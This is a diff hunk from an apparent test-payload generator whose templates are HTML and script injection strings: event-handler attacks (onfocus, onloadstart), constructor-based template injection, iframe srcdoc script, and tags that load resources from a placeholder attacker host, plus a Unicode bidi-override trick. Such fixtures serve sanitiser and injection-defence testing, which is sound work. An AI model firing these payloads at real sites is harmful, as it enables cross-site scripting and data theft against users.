@@ -15,7 +15,7 @@ _TEMPLATES = (
     "${{{act}}} {{{{constructor.constructor('{act}')()}}}} `+{act}+`",
     '<iframe src="{evil}/frame"></iframe><form action="{evil}"><input autofocus onfocus="{act}"></form>',
     '<style>@import "{evil}/style.css"; body {{ background: url({evil}/background.png) }}</style>',
-    "<a class='cite' href='#cite-0-1' data-ask='pwned'>trap</a>\u202e reversed \u202c",
+    "<a class='cite' href='#cite-0-1' data-ask='{act}'>trap</a>\u202e reversed \u202c",
     '<video src="{evil}/film.mp4" autoplay onloadstart="{act}"></video>',
     '<iframe srcdoc="<script>parent.{act}</script>"></iframe>',
     '<object data="{evil}/object"></object><embed src="{evil}/embed">',
